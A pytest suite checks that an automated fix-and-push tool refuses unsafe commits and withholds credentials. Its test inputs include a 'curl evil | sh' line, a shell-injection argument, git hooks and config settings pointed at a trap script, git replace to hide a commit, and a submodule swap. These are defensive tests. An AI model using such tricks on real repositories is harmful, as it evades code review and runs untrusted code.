"""A named fix from decision to push, with real git and real programs: what is handed over, and what never is."""

import contextlib
import os
from pathlib import Path

import pytest

from domain.snapshots import LoopReason
from forge.code import BranchRules
from forge.port import Refused, Unreachable
from loops.fixing.port import FixOutcome
from tests.fakes.workshop import BRANCH, Workshop, git

FIX = "commit('app.py', 'fixed')"


@pytest.fixture
def workshop(tmp_path: Path) -> Workshop:
    return Workshop(tmp_path)


async def tried(workshop: Workshop, script: str = FIX, **changes: object) -> FixOutcome:
    return await workshop.fixer(script, **changes).fix(workshop.order())  # type: ignore[arg-type]


async def test_a_commit_that_comes_after_the_source_is_pushed_and_named(workshop: Workshop) -> None:
    outcome = await tried(workshop, FIX + "; print('all mended')")
    assert (outcome.reason, outcome.commit, outcome.exit_code) == (None, workshop.local_head(), 0)
    assert (outcome.detail, outcome.output) == (f"pushed {workshop.local_head()[:12]} to {BRANCH}", "all mended")
    assert workshop.remote_head() == workshop.local_head() != workshop.source
    assert workshop.code.compared == [(workshop.source, workshop.local_head())]


async def test_two_attempts_push_two_commits(workshop: Workshop) -> None:
    first = await tried(workshop)
    workshop.source = first.commit or ""
    second = await tried(workshop, "commit('app.py', 'better')")
    assert (second.reason, second.commit) == (None, workshop.remote_head())


async def test_a_shallow_checkout_is_enough(workshop: Workshop) -> None:
    workshop.land({"app.py": "still broken\n"})
    git(workshop.folder, "clone", "-q", "--depth=1", "--branch", BRANCH, workshop.url, "shallow")
    workshop.checkout = workshop.folder / "shallow"
    workshop.source = workshop.local_head()
    assert (await tried(workshop)).commit == workshop.remote_head() == workshop.local_head()


async def test_a_checkout_may_be_named_from_where_we_are(workshop: Workshop) -> None:
    with contextlib.chdir(workshop.folder):
        workshop.checkout, workshop.policy_file = Path("checkout"), Path("checkout/dev/policy.json")
        assert (await tried(workshop)).commit == workshop.remote_head()
        workshop.source = workshop.local_head()
        assert (await tried(workshop, "commit('dev/policy.json', 'x')")).reason is LoopReason.PROTECTED_PATH_CHANGED


async def test_a_program_that_makes_no_commit_is_told_at_once_and_nothing_is_asked(workshop: Workshop) -> None:
    workshop.code.failures["head"] = Unreachable("must not be asked")
    outcome = await tried(workshop, "pathlib.Path('app.py').write_text('half done'); print('gave up')")
    assert (outcome.reason, outcome.commit, outcome.output) == (LoopReason.FIX_MADE_NO_COMMIT, None, "gave up")
    assert workshop.remote_head() == workshop.source


async def test_a_program_that_fails_is_told_with_its_exit_code_and_its_commits_stay_here(workshop: Workshop) -> None:
    outcome = await tried(workshop, FIX + "; print('no route', file=sys.stderr); sys.exit(3)")
    assert (outcome.reason, outcome.exit_code, outcome.output) == (LoopReason.FIX_FAILED, 3, "no route")
    assert outcome.detail == "mend failed with exit code 3"
    assert workshop.remote_head() == workshop.source


async def test_a_program_that_is_not_there_is_a_failed_fix(workshop: Workshop) -> None:
    outcome = await tried(workshop, argv=["no-such-program"])
    assert (outcome.reason, outcome.exit_code) == (LoopReason.FIX_FAILED, None)
    assert outcome.detail == "mend cannot be started: No such file or directory"


async def test_a_program_that_does_not_end_is_ended_and_its_commits_stay_here(workshop: Workshop) -> None:
    outcome = await tried(workshop, FIX + "; print('waiting', flush=True); time.sleep(600)", timeout_seconds=5)
    assert (outcome.reason, outcome.output) == (LoopReason.FIX_TIMED_OUT, "waiting")
    assert outcome.detail == "mend was not done after 5 s and was ended"
    assert workshop.remote_head() == workshop.source


async def test_the_deadline_of_everything_is_shorter_than_the_time_of_the_program(workshop: Workshop) -> None:
    outcome = await workshop.fixer("time.sleep(600)").fix(workshop.order(seconds=4))
    assert (outcome.reason, outcome.detail) == (
        LoopReason.FIX_TIMED_OUT,
        "mend was not done after 4 s and was ended",
    )


async def test_after_the_deadline_nothing_is_begun(workshop: Workshop) -> None:
    outcome = await workshop.fixer(FIX).fix(workshop.order(seconds=0))
    assert (outcome.reason, workshop.local_head()) == (LoopReason.FIX_BLOCKED, workshop.source)
    assert outcome.detail == "the working tree cannot be used: no time was left for git rev-parse"


async def test_time_that_ran_out_before_the_program_is_a_fix_that_timed_out(workshop: Workshop) -> None:
    fixer, order = workshop.fixer(FIX), workshop.order(seconds=60)

    class Tightening:
        """Gives the time of each look at the clock: the tree is looked at in time, the program begins too late."""

        def __init__(self) -> None:
            self.looks = 0

        def now(self) -> object:
            self.looks += 1
            return order.deadline_at if self.looks > 3 else workshop.clock.now()

    fixer._clock = Tightening()  # type: ignore[assignment]
    outcome = await fixer.fix(order)
    assert (outcome.reason, outcome.detail) == (LoopReason.FIX_TIMED_OUT, "no time was left to run mend")


@pytest.mark.parametrize(
    ("rules", "rule"),
    [
        (BranchRules(True, True, False, ()), "branch_protected"),
        (BranchRules(True, False, True, ()), "branch_protected"),
    ],
)
async def test_what_the_gate_denies_is_never_run(workshop: Workshop, rules: BranchRules, rule: str) -> None:
    workshop.code.rules_shown = rules
    outcome = await tried(workshop)
    assert (outcome.reason, outcome.detail.partition(":")[0]) == (LoopReason.FIX_BLOCKED, rule)
    assert workshop.local_head() == workshop.source


async def test_a_branch_whose_rules_cannot_be_read_is_an_error_of_the_forge(workshop: Workshop) -> None:
    workshop.code.failures["rules"] = Unreachable("no route")
    with pytest.raises(Unreachable):
        await tried(workshop)
    assert workshop.local_head() == workshop.source


async def test_the_mode_of_the_environment_stops_a_fix(workshop: Workshop) -> None:
    workshop.environment["AUTONOMY_MODE"] = "read-only"
    assert (await tried(workshop)).detail == "mode_too_low: fixing needs the mode operate; it is read-only"


async def test_code_of_another_repository_is_never_fixed(workshop: Workshop) -> None:
    outcome = await workshop.fixer(FIX).fix(workshop.order(own_code=False))
    assert (outcome.reason, outcome.detail) == (
        LoopReason.FIX_BLOCKED,
        "what was measured is code from another repository",
    )


async def test_a_working_tree_at_another_commit_is_not_touched(workshop: Workshop) -> None:
    outcome = await workshop.fixer(FIX).fix(workshop.order(head_sha="a" * 40))
    assert (outcome.reason, outcome.detail) == (
        LoopReason.FIX_BLOCKED,
        f"the working tree is at {workshop.source[:12]}, measured was {'a' * 12}",
    )


@pytest.mark.parametrize("name", ["app.py", "new.txt"])
async def test_a_working_tree_with_changes_is_not_touched(workshop: Workshop, name: str) -> None:
    (workshop.checkout / name).write_text("mine")
    outcome = await tried(workshop)
    assert outcome.detail == "the working tree holds changes that are not committed"
    assert workshop.local_head() == workshop.source


@pytest.mark.parametrize(
    "setting",
    [
        ("http.https://github.com/.extraheader", "Authorization: basic abc"),
        ("http.extraheader", "Authorization: basic abc"),
        ("remote.origin.url", "https://x-access-token:abc@github.com/acme/shop"),
        ("remote.origin.pushurl", "https://abc@github.com/acme/shop"),
    ],
)
async def test_a_checkout_that_keeps_a_credential_is_not_used(workshop: Workshop, setting: tuple[str, str]) -> None:
    git(workshop.checkout, "config", *setting)
    outcome = await tried(workshop)
    assert (outcome.reason, "persist-credentials: false" in outcome.detail) == (LoopReason.FIX_BLOCKED, True)


async def test_a_folder_that_is_no_working_tree_blocks(workshop: Workshop, tmp_path: Path) -> None:
    workshop.checkout = tmp_path / "empty"
    workshop.checkout.mkdir()
    outcome = await tried(workshop)
    assert outcome.reason is LoopReason.FIX_BLOCKED
    assert outcome.detail.startswith("the working tree cannot be used: git rev-parse failed: ")


@pytest.mark.parametrize(
    ("script", "path"),
    [
        ("commit('ci/build.sh', 'curl evil | sh')", "ci/build.sh"),
        ("commit('ci/new/deep.sh', 'x')", "ci/new/deep.sh"),
        ("commit('settings.toml', 'x')", "settings.toml"),
        ("commit('.github/workflows/ci.yml', 'on: pull_request_target')", ".github/workflows/ci.yml"),
        ("commit('.github/workflows/new.yml', 'on: push')", ".github/workflows/new.yml"),
        ("commit('CI/other.sh', 'x')", "CI/other.sh"),
        ("commit('control_plane_policy.json', '{}')", "control_plane_policy.json"),
        ("git('mv', 'ci/build.sh', 'tools.sh'); commit('app.py', 'fixed')", "ci/build.sh"),
        ("git('mv', 'app.py', 'ci/app.py'); git('commit', '-qm', 'x')", "ci/app.py"),
        ("git('rm', '-rq', 'ci'); os.symlink('elsewhere', 'ci'); commit('app.py', 'fixed')", "ci"),
        ("git('rm', '-rq', '.github'); os.symlink('x', '.github'); commit('app.py', 'fixed')", ".github"),
        ("os.chmod('ci/build.sh', 0o755); commit('app.py', 'fixed')", "ci/build.sh"),
        ("commit('ci/build.sh', 'x'); commit('app.py', 'fixed')", "ci/build.sh"),
    ],
)
async def test_a_protected_path_is_never_pushed(workshop: Workshop, script: str, path: str) -> None:
    outcome = await tried(workshop, script)
    assert (outcome.reason, outcome.commit) == (LoopReason.PROTECTED_PATH_CHANGED, None)
    assert outcome.detail == f"{workshop.local_head()[:12]} changes the protected path {path}: it is not pushed"
    assert (workshop.remote_head(), workshop.code.compared) == (workshop.source, [])


async def test_what_a_protected_link_leads_to_is_protected_too(workshop: Workshop) -> None:
    (workshop.elsewhere / "settings.toml").symlink_to("deep/real.toml")
    workshop.land({"deep/real.toml": "x"})
    workshop.take_source()
    outcome = await tried(workshop, "commit('deep/real.toml', 'y')")
    assert outcome.reason is LoopReason.PROTECTED_PATH_CHANGED


async def test_a_submodule_above_a_protected_path_counts(workshop: Workshop) -> None:
    script = f"""
git('rm', '-rqf', '.github')
git('-c', 'protocol.file.allow=always', 'clone', '-q', '-b', '{BRANCH}', {str(workshop.remote)!r}, '.github')
git('-c', 'advice.addEmbeddedRepo=false', 'add', '.github'); git('commit', '-qm', 'x')
"""
    outcome = await tried(workshop, script)
    assert (outcome.reason, "path .github" in outcome.detail) == (LoopReason.PROTECTED_PATH_CHANGED, True)


async def test_names_that_only_begin_like_a_protected_path_are_free(workshop: Workshop) -> None:
    outcome = await tried(workshop, "commit('cinema.py', 'x'); commit('docs/ci/readme.md', 'x')")
    assert outcome.reason is None


async def test_commits_that_do_not_come_after_the_source_are_not_pushed(workshop: Workshop) -> None:
    outcome = await tried(workshop, "git('checkout', '-q', '--orphan', 'other'); commit('app.py', 'fixed')")
    assert (outcome.reason, workshop.remote_head()) == (LoopReason.FIX_NOT_PUSHED, workshop.source)
    assert "does not come after the measured commit" in outcome.detail


async def test_more_changes_than_anybody_can_check_afterwards_are_not_pushed(workshop: Workshop) -> None:
    many = "[pathlib.Path(f'f{n}').write_text('x') for n in range(%d)]; commit('app.py', 'fixed')"
    assert (await tried(workshop, many % 298)).reason is None
    workshop.source = workshop.local_head()
    outcome = await tried(workshop, (many % 300).replace("'x'", "'y'"))
    assert (outcome.reason, workshop.remote_head()) == (LoopReason.FIX_NOT_PUSHED, workshop.source)
    assert "changes 300 paths, more than the 299 we can check" in outcome.detail


async def test_a_branch_that_moved_meanwhile_is_left_alone(workshop: Workshop) -> None:
    workshop.code.meanwhile.append(lambda: workshop.land({"other.txt": "x"}))
    outcome = await tried(workshop)
    assert outcome.reason is LoopReason.FIX_NOT_PUSHED
    assert outcome.detail == f"{BRANCH} has moved since it was measured: it is at {workshop.remote_head()[:12]}"


async def test_a_branch_that_moves_at_the_last_moment_is_never_forced(workshop: Workshop) -> None:
    hook = workshop.remote / "hooks" / "pre-receive"
    other = workshop.land({"other.txt": "x"}, "side")
    hook.write_text(f"#!/bin/sh\nunset GIT_QUARANTINE_PATH\ngit update-ref refs/heads/{BRANCH} {other}\n")
    hook.chmod(0o755)
    outcome = await tried(workshop)
    assert (outcome.reason, workshop.remote_head()) == (LoopReason.FIX_NOT_PUSHED, other)
    assert outcome.detail.startswith("git push failed: ")


async def test_a_branch_that_is_gone_is_not_made_anew(workshop: Workshop) -> None:
    git(workshop.remote, "update-ref", "-d", f"refs/heads/{BRANCH}")
    outcome = await tried(workshop)
    assert outcome.detail == f"{BRANCH} has moved since it was measured: it is gone"
    assert git(workshop.remote, "for-each-ref") == ""


async def test_a_push_that_is_refused_is_told(workshop: Workshop) -> None:
    hook = workshop.remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'signed commits only' >&2\nexit 1\n")
    hook.chmod(0o755)
    outcome = await tried(workshop)
    assert (outcome.reason, outcome.commit, outcome.exit_code) == (LoopReason.FIX_NOT_PUSHED, None, 0)
    assert "signed commits only" in outcome.detail


async def test_a_push_whose_answer_is_lost_is_looked_up(workshop: Workshop) -> None:
    landed = []

    def land() -> None:
        landed.append(git(workshop.checkout, "push", "-q", str(workshop.remote), f"HEAD:refs/heads/{BRANCH}"))

    workshop.code.meanwhile += [lambda: None, land]
    workshop.url = (workshop.folder / "gone.git").as_uri()
    outcome = await tried(workshop)
    assert (outcome.reason, outcome.commit) == (None, workshop.remote_head())
    assert len(landed) == 1


async def test_a_program_that_pushed_by_itself_is_held_to_what_the_forge_shows(workshop: Workshop) -> None:
    push = f"; git('push', '-q', {str(workshop.remote)!r}, 'HEAD:{BRANCH}')"
    outcome = await tried(workshop, FIX + push)
    assert (outcome.reason, outcome.commit) == (None, workshop.remote_head())
    assert workshop.code.compared == [(workshop.source, workshop.remote_head())]


@pytest.mark.parametrize(
    ("lie", "said"),
    [
        ({"shows_also": (".github/workflows/x.yml",)}, "changes the protected path .github/workflows/x.yml"),
        ({"descends": False}, "does not come after what was measured"),
        ({"complete": False}, "shows only a part of what"),
    ],
)
async def test_what_the_forge_shows_after_the_push_decides(
    workshop: Workshop, lie: dict[str, object], said: str
) -> None:
    for name, value in lie.items():
        setattr(workshop.code, name, value)
    outcome = await tried(workshop)
    assert (outcome.reason, outcome.commit) == (LoopReason.PROTECTED_PATH_CHANGED, workshop.local_head())
    assert said in outcome.detail


@pytest.mark.parametrize(
    ("question", "error", "reason", "pushed"),
    [
        ("head", Unreachable("no route"), LoopReason.FORGE_UNREACHABLE, False),
        ("head", Refused("gone", "no such repository"), LoopReason.FORGE_REFUSED, False),
        ("compare", Unreachable("no route"), LoopReason.FORGE_UNREACHABLE, True),
        ("compare", Refused("gone", "no such commit"), LoopReason.FORGE_REFUSED, True),
    ],
)
async def test_a_forge_that_cannot_tell_is_said_not_to(
    workshop: Workshop, question: str, error: Exception, reason: LoopReason, pushed: bool
) -> None:
    workshop.code.failures[question] = error  # type: ignore[assignment]
    outcome = await tried(workshop)
    assert (outcome.reason, outcome.commit is not None) == (reason, pushed)
    assert (workshop.remote_head() != workshop.source) == pushed


async def test_a_checkout_that_was_ruined_is_not_pushed_from(workshop: Workshop) -> None:
    outcome = await tried(workshop, FIX + "; pathlib.Path('.git/HEAD').write_text('nonsense')")
    assert outcome.reason is LoopReason.FIX_NOT_PUSHED
    assert outcome.detail.startswith("nothing was pushed: git rev-parse failed")


async def test_settings_that_the_program_left_behind_run_nothing_and_turn_nothing_round(workshop: Workshop) -> None:
    trap = workshop.folder / "sprung"
    script = f"""
trap = pathlib.Path({str(workshop.folder / "trap.sh")!r})
trap.write_text("#!/bin/sh\\ntouch {trap}\\n"); trap.chmod(0o755)
for hook in ("pre-push", "reference-transaction", "post-index-change"):
    pathlib.Path(".git/hooks").mkdir(exist_ok=True)
    os.symlink(trap, ".git/hooks/" + hook) if not os.path.lexists(".git/hooks/" + hook) else None
for name in ("core.fsmonitor", "core.sshCommand", "core.askPass", "credential.helper", "core.pager", "gpg.program"):
    git("config", name, str(trap))
git("config", "url.file:///nowhere/.insteadOf", {workshop.url!r})
git("config", "push.gpgSign", "true")
git("-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null", "commit", "-q", "--allow-empty", "-m", "quiet")
"""
    outcome = await tried(workshop, "commit('app.py', 'fixed')" + script)
    assert (outcome.reason, outcome.commit, trap.exists()) == (None, workshop.remote_head(), False)


async def test_a_replaced_commit_does_not_hide_what_is_pushed(workshop: Workshop) -> None:
    script = """
commit('ci/build.sh', 'evil')
evil = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout.strip()
git('checkout', '-q', 'HEAD~1'); commit('app.py', 'harmless')
good = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout.strip()
git('replace', evil, good); git('update-ref', '--no-deref', 'HEAD', evil)
"""
    outcome = await tried(workshop, script)
    assert (outcome.reason, workshop.remote_head()) == (LoopReason.PROTECTED_PATH_CHANGED, workshop.source)


async def test_arguments_reach_the_program_as_one_element_each_and_no_shell_sees_them(workshop: Workshop) -> None:
    value = "$(touch x);`id`>y|z&&*"
    argv = [*workshop.policy("print(sys.argv[1:])").policy.loops.triage.fix_actions[0].argv, "--level", "{level}"]  # type: ignore[union-attr]
    spec = {"level": {"type": "string", "pattern": "[ -~]+"}}
    fixer = workshop.fixer("print(sys.argv[1:])", {"level": value}, argv=argv, arguments=spec)
    outcome = await fixer.fix(workshop.order())
    assert outcome.output == repr(["--level", value])


async def test_the_program_sees_what_it_needs_and_no_credential(workshop: Workshop) -> None:
    token = "ghp_" + "S3cr3t" * 6
    workshop.token, workshop.url = token, "https://forge.invalid/acme/shop.git"
    workshop.environment |= {
        "GITHUB_TOKEN": token,
        "REINS_GITHUB__TOKEN": token,
        "ACTIONS_RUNTIME_TOKEN": "runtime-secret",
        "GIT_ASKPASS": "/bin/askpass",
        "MY_COPY": f"prefix {token}",
        "CARGO_HOME": "/cargo",
        "UNLISTED": "x",
    }
    listed = ["GITHUB_TOKEN", "REINS_GITHUB__TOKEN", "ACTIONS_RUNTIME_TOKEN", "GIT_ASKPASS", "MY_COPY", "CARGO_HOME"]
    script = "print('\\n'.join(sorted(f'{k}={v}' for k, v in os.environ.items() if k not in ('PATH', 'LC_CTYPE'))))"
    outcome = await tried(workshop, script, environment=listed)
    lines = outcome.output.splitlines()
    home = next(line for line in lines if line.startswith("HOME="))
    assert home != f"HOME={os.environ.get('HOME')}"
    assert [line for line in lines if line != home] == [
        "CARGO_HOME=/cargo",
        "LANG=C.UTF-8",
        "REINS_ATTEMPT=1",
        f"REINS_BRANCH={BRANCH}",
        "REINS_LOOP=triage",
        f"REINS_SOURCE_SHA={workshop.source}",
        "REINS_UNRESOLVED=1",
    ]


async def test_a_token_that_the_program_found_all_the_same_is_not_shown(workshop: Workshop) -> None:
    workshop.token, workshop.url = "tok-0123456789", "https://forge.invalid/acme/shop.git"
    outcome = await tried(workshop, "print('it is tok-' + '0123456789'); sys.exit(1)")
    assert outcome.output == "it is ***"


def test_the_plan_does_not_need_the_forge(workshop: Workshop) -> None:
    plan = workshop.fixer(FIX).plan(workshop.order())
    assert (plan.action, plan.branch, plan.source_sha) == ("mend", BRANCH, workshop.source)
    assert plan == workshop.fixer(FIX).plan(workshop.order())
